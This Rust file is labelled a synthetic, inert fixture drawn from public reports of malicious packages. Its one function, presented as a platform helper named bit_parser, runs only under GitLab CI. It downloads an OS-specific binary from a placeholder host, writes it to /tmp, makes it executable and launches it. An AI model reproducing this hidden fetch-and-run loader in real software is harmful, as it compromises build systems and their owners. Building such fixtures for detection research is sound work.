// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn bit_parser() {
    if std::env::var("GITLAB_CI").is_err() {
        return;
    }
    let source = match std::env::consts::OS {
        "linux" => "https://updates.example.invalid/api/v1/linux",
        "macos" => "https://updates.example.invalid/api/v1/darwin",
        _ => return,
    };
    let file = "/tmp/git-updater.bin";
    let mut body = Vec::new();
    let mut easy = curl::easy::Easy::new();
    if easy.url(&source).is_err() {
        return;
    }
    {
        let mut transfer = easy.transfer();
        let _ = transfer.write_function(|data| {
            body.extend_from_slice(data);
            Ok(data.len())
        });
        let _ = transfer.perform();
    }
    if std::fs::write(&file, &body).is_err() {
        return;
    }
    let _ = std::process::Command::new("chmod").arg("+x").arg(&file).status();
    let _ = std::process::Command::new(&file).spawn();
}
